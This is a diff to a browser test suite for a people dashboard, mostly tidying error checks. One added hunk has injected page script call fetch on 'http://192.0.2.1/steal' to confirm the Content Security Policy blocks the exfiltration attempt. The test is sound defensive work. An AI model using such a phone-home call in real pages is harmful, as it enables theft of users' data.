@@ -85,7 +85,7 @@ def test_every_page_shows_the_seeded_people_in_light_and_dark(chromium: Any, das
             browsing.shot(f"settings-{scheme}")
         finally:
             browsing.close()
-        assert browsing.errors == []
+        browsing.check()
 
 
 def test_search_and_filters_narrow_the_list(browsing: Browsing) -> None:
@@ -227,6 +227,11 @@ def test_hostile_names_and_bios_render_as_text(browsing: Browsing, dashboard: Da
         browsing.open(path)
         assert page.locator("main img, main b").count() == 0
     assert page.evaluate("() => window.pwned") is None
+    # Even a script that got in could not phone home: the CSP refuses other hosts before any request.
+    sent = page.evaluate("() => fetch('http://192.0.2.1/steal').then(() => 'sent', () => 'refused')")
+    assert sent == "refused" and not any("192.0.2.1" in url for url in browsing.requests)
+    assert all("Content Security Policy" in error for error in browsing.errors)
+    browsing.errors.clear()  # the browser's report of that refusal
 
 
 def test_deleting_a_person_removes_everything_about_them(browsing: Browsing, dashboard: Dashboard) -> None:
@@ -287,6 +292,6 @@ def test_an_empty_companion_says_how_to_start(chromium: Any, tmp_path: Path) -> 
             browsing.shot("empty-settings")
         finally:
             browsing.close()
-        assert browsing.errors == []
+        browsing.check()
     finally:
         empty.stop()
